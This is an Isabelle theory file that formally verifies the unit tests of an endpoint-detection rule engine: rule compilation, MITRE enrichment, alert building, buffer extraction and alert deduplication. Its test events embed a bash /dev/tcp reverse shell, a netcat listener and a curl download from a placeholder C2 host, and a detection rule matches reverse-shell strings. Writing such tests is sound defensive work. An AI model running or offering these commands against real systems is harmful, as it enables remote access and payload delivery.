(* ===== verification/RuleTests.thy ===== *)
theory RuleTests
  imports RuleService DedupWindow
begin

text \<open>
  The tests of \<open>rule-engine/tests/unit_tests.rs\<close>, run on the model: a test is the truth of its assertions, and each lemma says that the
  model passes it, for every id, clock, hash, cache and JSON library it leaves open. A rule with the condition \<open>any of them\<close> over plain
  strings is the rule and its strings, and scanning looks for them in the buffer. The tests of the compiler's own syntax (\<open>ut01\<close>) and of
  the rules and the taxonomy on disk (\<open>ut03\<close>, \<open>ut06\<close>) are about third-party code and data.
\<close>

section \<open>Rules and events of the tests\<close>

type_synonym string_rules = "(matched_rule \<times> string list) list"

definition scan_strings :: "string_rules \<Rightarrow> bytes \<Rightarrow> (string, matched_rule list) result" where
  "scan_strings rules buf = Ok (map fst (filter (\<lambda>(r, ss). list_ex (contains_str buf) ss) rules))"

definition test_event :: "uuid \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> i64 \<Rightarrow> (string \<times> json) list \<Rightarrow> telemetry_event" where
  "test_event node eid hostname event_type timestamp_ns entries = \<lparr>te_id = eid, te_node_id = node, te_hostname = hostname,
     te_event_type = event_type, te_timestamp_ns = timestamp_ns, te_payload = JObject entries, te_raw_sequence_id = None\<rparr>"

definition test_alert :: "uuid \<Rightarrow> uuid \<Rightarrow> timestamp \<Rightarrow> string \<Rightarrow> alert_severity \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> string option
    \<Rightarrow> f32 \<Rightarrow> alert" where
  "test_alert aid node now hostname severity technique tactic description event_id score =
     \<lparr>al_alert_id = aid, al_node_id = node, al_hostname = hostname, al_severity = severity, al_source = YaraX,
      al_mitre_technique_id = Some technique, al_mitre_tactic = tactic, al_description = description, al_triggering_event_id = event_id,
      al_threat_score = score, al_status = ''open'', al_created_at = now\<rparr>"

section \<open>Compilation and taxonomy\<close>

definition test_ut02_invalid_syntax_returns_error :: "('c, 'r) yara_compiler \<Rightarrow> string \<Rightarrow> bool" where
  "test_ut02_invalid_syntax_returns_error yc malformed_source =
     (case compile_source yc ''broken.yar'' malformed_source of
        Inl (RuleCompilation source_file line message) \<Rightarrow> source_file = ''broken.yar''
      | _ \<Rightarrow> False)"

definition test_ut04_empty_rules_directory :: "('c, 'r) yara_compiler \<Rightarrow> string \<Rightarrow> bool" where
  "test_ut04_empty_rules_directory yc temp_dir =
     (case compile_all yc temp_dir (Some (Inr [])) of Inr sets \<Rightarrow> sets = [] | Inl _ \<Rightarrow> False)"

definition test_ut05_mitre_subdir_skipped :: "('c, 'r) yara_compiler \<Rightarrow> string \<Rightarrow> bool" where
  "test_ut05_mitre_subdir_skipped yc temp_dir =
     (case compile_all yc temp_dir (Some (Inr [Inr (SubDir ''mitre'' (Inr [Inr (RuleFile ''dummy.json'' (Inr ''{}''))]))])) of
        Inr sets \<Rightarrow> ''mitre'' \<notin> fst ` set sets
      | Inl _ \<Rightarrow> False)"

definition test_ut07_unknown_technique_fallback :: "uuid \<Rightarrow> uuid \<Rightarrow> timestamp \<Rightarrow> bool" where
  "test_ut07_unknown_technique_fallback aid node now =
     (let a = enrich_alert empty_taxonomy ''T9999''
        (test_alert aid node now ''test-host'' Medium ''T9999'' None ''Custom rule alert'' None f32_five)
      in resolve_technique empty_taxonomy ''T9999'' = None \<and> al_mitre_tactic a = None \<and> al_threat_score a = f32_five)"

text \<open>The taxonomy is what the file gives, when it is there.\<close>

definition test_ut08_enrichment_populates_tactic :: "mitre_taxonomy \<Rightarrow> uuid \<Rightarrow> uuid \<Rightarrow> timestamp \<Rightarrow> bool" where
  "test_ut08_enrichment_populates_tactic taxonomy aid node now =
     (let a = enrich_alert taxonomy ''T1059.004'' (test_alert aid node now ''test-host'' High ''T1059.004'' None [] None 0)
      in al_mitre_tactic a = Some ''Execution'' \<and> \<not> f32_is_zero (al_threat_score a) \<and> al_description a \<noteq> [])"

section \<open>Alerts of matches\<close>

definition test_ut10_build_alert_from_yara_match :: "uuid \<Rightarrow> uuid \<Rightarrow> timestamp \<Rightarrow> bool" where
  "test_ut10_build_alert_from_yara_match aid node now =
     (let matched = \<lparr>mr_identifier = ''Suspicious_Curl'',
            mr_metadata = [(''mitre_technique'', MetaString ''T1105''), (''severity'', MetaString ''high''), (''threat_score'', MetaInteger 75),
              (''description'', MetaString ''File download utility detected in execution path'')]\<rparr>;
          event = test_event node ''evt-curl-1'' ''agent-01'' ''process'' 1234567890 [(''cmdline'', JString ''curl http://malicious.c2/drop.sh'')];
          a = build_alert aid now event matched empty_taxonomy
      in al_severity a = High \<and> al_threat_score a = 0x42960000 \<and> al_source a = YaraX \<and>
         al_mitre_technique_id a = Some ''T1105'' \<and> al_triggering_event_id a = Some ''evt-curl-1'')"

definition test_ut11_build_alert_missing_metadata :: "uuid \<Rightarrow> uuid \<Rightarrow> timestamp \<Rightarrow> bool" where
  "test_ut11_build_alert_missing_metadata aid node now =
     (let a = build_alert aid now
            (test_event node ''evt-bare-1'' ''agent-01'' ''process'' 1234567890 [(''cmdline'', JString ''drop payload'')])
            \<lparr>mr_identifier = ''BareRule'', mr_metadata = []\<rparr> empty_taxonomy
      in al_severity a = Medium \<and> al_threat_score a = f32_five \<and> contains_str (al_description a) ''BareRule'')"

section \<open>Scanned text\<close>

definition test_ut12_scannable_buffer_extraction :: "(json \<Rightarrow> bytes option) \<Rightarrow> uuid \<Rightarrow> bool" where
  "test_ut12_scannable_buffer_extraction to_vec node =
     (let text = extract_scannable_buffer to_vec (test_event node ''evt-001'' ''prod-node-01'' ''process'' 1234567890
            [(''cmdline'', JString ''/bin/bash -c nc -lvnp 4444''), (''path'', JString ''/bin/bash''), (''pid'', JInt 5892), (''uid'', JInt 1000)])
      in contains_str text ''/bin/bash -c nc -lvnp 4444'' \<and> contains_str text ''/bin/bash'' \<and>
         \<not> contains_str text ([CHR 0x22] @ ''pid'' @ [CHR 0x22] @ '': 5892''))"

definition test_ut12b_osquery_columns_extraction :: "(json \<Rightarrow> bytes option) \<Rightarrow> uuid \<Rightarrow> bool" where
  "test_ut12b_osquery_columns_extraction to_vec node =
     (let column = (\<lambda>n v. JObject [(''name'', JString n), (''value'', JString v)]);
          text = extract_scannable_buffer to_vec (test_event node ''evt-001b'' ''prod-node-01'' ''process'' 1234567890
            [(''action'', JString ''ADDED''), (''query_name'', JString ''running_processes''),
             (''rows'', JArray [JObject [(''columns'', JArray [column ''cmdline'' ''/bin/sh -c evil_command'', column ''path'' ''/bin/sh'',
               column ''pid'' ''1234''])]])])
      in contains_str text ''/bin/sh -c evil_command'' \<and> contains_str text ''/bin/sh'' \<and> contains_str text ''1234'')"

text \<open>Here the printed payload is scanned.\<close>

definition test_ut13_scannable_buffer_fallback :: "(json \<Rightarrow> bytes option) \<Rightarrow> uuid \<Rightarrow> bool" where
  "test_ut13_scannable_buffer_fallback to_vec node \<longleftrightarrow>
     contains_str (extract_scannable_buffer to_vec (test_event node ''evt-002'' ''prod-node-01'' ''custom'' 1234567890
       [(''custom_key'', JString ''custom_val'')])) ''custom_val''"

definition reverse_shell_rule :: "matched_rule \<times> string list" where
  "reverse_shell_rule = (\<lparr>mr_identifier = ''Linux_Reverse_Shell'',
     mr_metadata = [(''mitre_technique'', MetaString ''T1059.004''), (''severity'', MetaString ''critical''), (''threat_score'', MetaInteger 90),
       (''description'', MetaString ''Detects interactive reverse shell'')]\<rparr>, [''/dev/tcp/'', ''nc -e /bin/''])"

definition test_ut14_reverse_shell_detection :: "(json \<Rightarrow> bytes option) \<Rightarrow> (nat \<Rightarrow> uuid \<times> timestamp) \<Rightarrow> uuid \<Rightarrow> bool" where
  "test_ut14_reverse_shell_detection to_vec fresh node =
     (case evaluate scan_strings to_vec fresh (registry_new [(''process'', [reverse_shell_rule])] empty_taxonomy)
         (test_event node ''evt-rev-01'' ''victim-node'' ''process'' 1787845407000000000
            [(''cmdline'', JString ''/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1''), (''path'', JString ''/bin/bash''), (''pid'', JInt 5892)]) of
        Inr [a] \<Rightarrow> al_severity a = Critical \<and> al_mitre_technique_id a = Some ''T1059.004'' \<and> al_threat_score a = 0x42B40000 \<and>
          al_triggering_event_id a = Some ''evt-rev-01''
      | _ \<Rightarrow> False)"

definition test_ut15_clean_process_no_false_positive :: "(json \<Rightarrow> bytes option) \<Rightarrow> (nat \<Rightarrow> uuid \<times> timestamp) \<Rightarrow> uuid \<Rightarrow> bool" where
  "test_ut15_clean_process_no_false_positive to_vec fresh node \<longleftrightarrow>
     evaluate scan_strings to_vec fresh
       (registry_new [(''process'', [(\<lparr>mr_identifier = ''Linux_Reverse_Shell'', mr_metadata = []\<rparr>, [''/dev/tcp/''])])] empty_taxonomy)
       (test_event node ''evt-clean-01'' ''dev-workstation'' ''process'' 1787845407000000000
          [(''cmdline'', JString ''/usr/bin/cargo test --workspace --all-features''), (''path'', JString ''/usr/bin/cargo''), (''pid'', JInt 12345)]) =
     Ok []"

definition test_ut16_event_type_routing :: "('r \<Rightarrow> bytes \<Rightarrow> (string, matched_rule list) result) \<Rightarrow> 'r \<Rightarrow> (json \<Rightarrow> bytes option)
    \<Rightarrow> (nat \<Rightarrow> uuid \<times> timestamp) \<Rightarrow> uuid \<Rightarrow> bool" where
  "test_ut16_event_type_routing scan rules to_vec fresh node \<longleftrightarrow>
     evaluate scan to_vec fresh (registry_new [(''network'', rules)] empty_taxonomy)
       (test_event node ''evt-proc-1'' ''agent-01'' ''process'' 1234567890 [(''cmdline'', JString ''malicious_c2_ip'')]) = Ok []"

section \<open>Deduplication\<close>

definition test_signature :: "uuid \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> alert_signature" where
  "test_signature node rule technique = \<lparr>sg_node_id = node, sg_rule_identifier = rule, sg_mitre_technique = technique\<rparr>"

text \<open>The instants are those the calls read: the first, the ten repetitions, the other rule, the other node, and the last after the sleep.\<close>

definition test_ut17_to_ut21_dedup_behavior :: "(uuid \<Rightarrow> u64) \<Rightarrow> 'c lru_ops \<Rightarrow> uuid \<Rightarrow> uuid \<Rightarrow> instant \<Rightarrow> instant list \<Rightarrow> instant
    \<Rightarrow> instant \<Rightarrow> instant \<Rightarrow> bool" where
  "test_ut17_to_ut21_dedup_behavior hash ops node_a node_b t1 repeats t3 t2 t4 =
     (let sig1 = test_signature node_a ''Linux_Reverse_Shell'' (Some ''T1059.004'');
          sig2 = test_signature node_b ''Linux_Reverse_Shell'' (Some ''T1059.004'');
          sig3 = test_signature node_a ''Privilege_Escalation'' (Some ''T1548.001'')
      in case dedup_new ops 1000 1000000000 of
           Inl _ \<Rightarrow> False
         | Inr d \<Rightarrow> fst (dedup_run hash ops ((t1, sig1) # map (\<lambda>t. (t, sig1)) repeats @ [(t3, sig3), (t2, sig2), (t4, sig1)]) d) =
             True # replicate (length repeats) False @ [True, True, True])"

definition test_ut22_sharded_distribution :: "(uuid \<Rightarrow> u64) \<Rightarrow> 'c lru_ops \<Rightarrow> (instant \<times> uuid) list \<Rightarrow> bool" where
  "test_ut22_sharded_distribution hash ops nodes =
     (case dedup_new ops 16000 60000000000 of
        Inl _ \<Rightarrow> False
      | Inr d \<Rightarrow> list_all id (fst (dedup_run hash ops (map (\<lambda>(t, node). (t, test_signature node ''TestRule'' None)) nodes) d)))"

definition test_ut23_zero_capacity_returns_error :: "'c lru_ops \<Rightarrow> bool" where
  "test_ut23_zero_capacity_returns_error ops \<longleftrightarrow> \<not> is_ok (dedup_new ops 0 60000000000)"

section \<open>Names, rows, configuration and messages\<close>

definition test_ut24_detection_source_as_str :: bool where
  "test_ut24_detection_source_as_str \<longleftrightarrow>
     source_str YaraX = ''yara_x'' \<and> source_str Sigma = ''sigma'' \<and> source_str Mitre = ''mitre'' \<and> source_str Behavioral = ''behavioral''"

definition test_ut25_new_alert_entity_from_alert :: "uuid \<Rightarrow> uuid \<Rightarrow> timestamp \<Rightarrow> bool" where
  "test_ut25_new_alert_entity_from_alert aid node now =
     (let a = test_alert aid node now ''node-101'' Critical ''T1059.004'' (Some ''Execution'') ''Reverse shell detected'' (Some ''evt-999'') 0x42BE0000;
          entity = entity_of_alert a
      in na_alert_id entity = al_alert_id a \<and> na_severity entity = ''critical'' \<and> na_source entity = ''yara_x'' \<and>
         na_mitre_technique_id entity = Some ''T1059.004'' \<and> na_threat_score entity = 0x42BE0000)"

definition test_ut26_config_from_env_defaults :: "nat \<Rightarrow> bool" where
  "test_ut26_config_from_env_defaults cpus =
     (case from_env (Map.empty(''DATABASE_URL'' \<mapsto> ''postgres://localhost/edr_alerts'')) cpus of
        Inl _ \<Rightarrow> False
      | Inr config \<Rightarrow> rc_db_pool_max_size config = 20 \<and> rc_channel_capacity config = 10000 \<and> rc_dedup_capacity config = 100000 \<and>
          rc_dedup_suppression_window_secs config = 60 \<and> rc_batch_max_size config = 500 \<and> rc_batch_flush_interval_ms config = 100 \<and>
          rc_health_port config = 8081)"

definition test_ut27_config_missing_database_url :: "(string \<Rightarrow> string option) \<Rightarrow> nat \<Rightarrow> bool" where
  "test_ut27_config_missing_database_url env cpus \<longleftrightarrow> \<not> is_ok (from_env (env(''DATABASE_URL'' := None)) cpus)"

definition test_ut28_app_error_display_formats :: bool where
  "test_ut28_app_error_display_formats \<longleftrightarrow>
     contains_str (app_error_str (RuleCompilation ''test.yar'' 12 ''syntax error'')) ''test.yar:12'' \<and>
     contains_str (app_error_str (ScanFailure ''evt-1'' ''timeout'')) ''evt-1''"

section \<open>The model passes\<close>

lemma compiler_tests_pass:
  "\<not> is_ok (yc_add_source yc src (yc_new yc)) \<Longrightarrow> test_ut02_invalid_syntax_returns_error yc src"
  "test_ut04_empty_rules_directory yc dir" "test_ut05_mitre_subdir_skipped yc dir"
  by (auto simp: test_ut02_invalid_syntax_returns_error_def compile_source_def test_ut04_empty_rules_directory_def compile_all_def
    test_ut05_mitre_subdir_skipped_def is_ok_def split: sum.splits)

lemma taxonomy_tests_pass:
  "test_ut07_unknown_technique_fallback aid node now"
  "\<lbrakk>resolve_technique tx ''T1059.004'' = Some tech; mt_tactic tech = ''Execution''; \<not> f32_is_zero (mt_base_threat_score tech);
    mt_description tech \<noteq> []\<rbrakk> \<Longrightarrow> test_ut08_enrichment_populates_tactic tx aid node now"
  by (simp_all add: test_ut07_unknown_technique_fallback_def test_ut08_enrichment_populates_tactic_def test_alert_def enrich_alert_def
    resolve_technique_def empty_taxonomy_def)

lemma test_scores: "i64_as_f32 75 = 0x42960000" "i64_as_f32 90 = 0x42B40000"
  by code_simp+

lemma severity_words: "severity_of ''high'' = High" "severity_of ''critical'' = Critical"
  by code_simp+

lemma test_ut10_passes: "test_ut10_build_alert_from_yara_match aid node now"
  by (simp add: test_ut10_build_alert_from_yara_match_def build_alert_def default_fields_def meta_step_def test_scores severity_words
    enrich_alert_def resolve_technique_def empty_taxonomy_def test_event_def)

lemma test_ut11_passes: "test_ut11_build_alert_missing_metadata aid node now"
  using contains_str_append [of "''YARA rule '' @ [CHR 0x27]" "''BareRule''" "[CHR 0x27] @ '' matched''"]
  by (simp add: test_ut11_build_alert_missing_metadata_def build_alert_def default_fields_def)

lemma test_ut12_passes: "test_ut12_scannable_buffer_extraction to_vec node"
  by code_simp

lemma test_ut12b_passes: "test_ut12b_osquery_columns_extraction to_vec node"
  by code_simp

lemma test_ut13_passes:
  assumes "to_vec (JObject [(''custom_key'', JString ''custom_val'')]) = Some text" "contains_str text ''custom_val''"
  shows "test_ut13_scannable_buffer_fallback to_vec node"
  using assms by (simp add: test_ut13_scannable_buffer_fallback_def extract_scannable_buffer_def scan_object_def SCAN_KEYS_def test_event_def)

lemma test_ut14_passes: "test_ut14_reverse_shell_detection to_vec fresh node"
proof -
  let ?e = "test_event node ''evt-rev-01'' ''victim-node'' ''process'' 1787845407000000000
    [(''cmdline'', JString ''/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1''), (''path'', JString ''/bin/bash''), (''pid'', JInt 5892)]"
  have found: "scan_strings [reverse_shell_rule] (extract_scannable_buffer to_vec ?e) = Ok [fst reverse_shell_rule]"
    "extract_scannable_buffer to_vec ?e \<noteq> []" "scan_category ?e = ''process''" by code_simp+
  then show ?thesis
    by (simp add: test_ut14_reverse_shell_detection_def evaluate_def registry_new_def build_alert_def default_fields_def meta_step_def
      reverse_shell_rule_def test_scores severity_words enrich_alert_def resolve_technique_def empty_taxonomy_def)
      (simp add: test_event_def)
qed

lemma test_ut15_passes: "test_ut15_clean_process_no_false_positive to_vec fresh node"
  by code_simp

lemma test_ut16_passes: "test_ut16_event_type_routing scan rules to_vec fresh node"
  by (simp add: test_ut16_event_type_routing_def evaluate_def registry_new_def scan_category_def test_event_def)

lemma card_subset_insert: "A \<subseteq> set xs \<Longrightarrow> card A \<le> length xs"
  by (meson card_length card_mono le_trans List.finite_set)

lemma test_ut17_to_ut21_passes:
  assumes "lru_laws ops entries cap" "node_a \<noteq> node_b" "\<forall>t \<in> set repeats. t - t1 < 1000000000" "1000000000 \<le> t4 - t1"
  shows "test_ut17_to_ut21_dedup_behavior hash ops node_a node_b t1 repeats t3 t2 t4"
proof -
  define sig1 sig2 sig3 where sigs: "sig1 = test_signature node_a ''Linux_Reverse_Shell'' (Some ''T1059.004'')"
    "sig2 = test_signature node_b ''Linux_Reverse_Shell'' (Some ''T1059.004'')"
    "sig3 = test_signature node_a ''Privilege_Escalation'' (Some ''T1548.001'')"
  have ne: "sig1 \<noteq> sig2" "sig1 \<noteq> sig3" "sig2 \<noteq> sig3" using assms(2) by (simp_all add: sigs test_signature_def)
  let ?calls = "(t1, sig1) # map (\<lambda>t. (t, sig1)) repeats @ [(t3, sig3), (t2, sig2), (t4, sig1)]"
  obtain d where d: "dedup_new ops 1000 1000000000 = Inr d" by (simp add: dedup_new_def SHARD_COUNT_def)
  have "card (snd ` set ?calls) \<le> length [sig1, sig2, sig3]" by (intro card_subset_insert) auto
  then have "card (snd ` set ?calls) \<le> 1000 div SHARD_COUNT" by (simp add: SHARD_COUNT_def)
  then have "fst (dedup_run hash ops ?calls d) = fst (window_run 1000000000 ?calls Map.empty)"
    by (rule dedup_verdicts_fresh [OF assms(1) d])
  also have "\<dots> = True # fst (window_run 1000000000 (map (\<lambda>t. (t, sig1)) repeats @ [(t3, sig3), (t2, sig2), (t4, sig1)]) [sig1 \<mapsto> (t1, 1)])"
    by (simp add: window_check_def case_prod_beta)
  also have "\<dots> = True # replicate (length repeats) False @ [True, True, True]"
    using window_run_repeats [of "[sig1 \<mapsto> (t1, 1)]" sig1 t1 1 repeats 1000000000] assms(3,4) ne
    by (auto simp: window_run_append window_check_def)
  finally show ?thesis by (simp add: test_ut17_to_ut21_dedup_behavior_def d flip: sigs)
qed

lemma test_ut22_passes:
  assumes "lru_laws ops entries cap" "distinct (map snd nodes)" "length nodes = 100"
  shows "test_ut22_sharded_distribution hash ops nodes"
proof -
  let ?calls = "map (\<lambda>(t, node). (t, test_signature node ''TestRule'' None)) nodes"
  obtain d where d: "dedup_new ops 16000 60000000000 = Inr d" by (simp add: dedup_new_def SHARD_COUNT_def)
  have "card (snd ` set ?calls) \<le> length (map snd ?calls)" by (intro card_subset_insert) (simp add: image_image)
  then have "card (snd ` set ?calls) \<le> 16000 div SHARD_COUNT" using assms(3) by (simp add: SHARD_COUNT_def)
  then have "fst (dedup_run hash ops ?calls d) = fst (window_run 60000000000 ?calls Map.empty)"
    by (rule dedup_verdicts_fresh [OF assms(1) d])
  also have "\<dots> = replicate (length ?calls) True"
    using assms(2) by (intro window_run_fresh) (fastforce simp: distinct_map inj_on_def test_signature_def)+
  finally show ?thesis by (simp add: test_ut22_sharded_distribution_def d list_all_iff)
qed

lemma value_tests_pass:
  "test_ut23_zero_capacity_returns_error ops" "test_ut24_detection_source_as_str" "test_ut25_new_alert_entity_from_alert aid node now"
  "test_ut27_config_missing_database_url env cpus"
  by (simp_all add: test_ut23_zero_capacity_returns_error_def dedup_new_def SHARD_COUNT_def test_ut24_detection_source_as_str_def
    test_ut25_new_alert_entity_from_alert_def test_alert_def entity_of_alert_def test_ut27_config_missing_database_url_def from_env_def)

lemma test_ut26_passes: "test_ut26_config_from_env_defaults cpus"
  by (simp add: test_ut26_config_from_env_defaults_def from_env_def env_num_def)

lemma test_ut28_passes: "test_ut28_app_error_display_formats"
  by code_simp

end
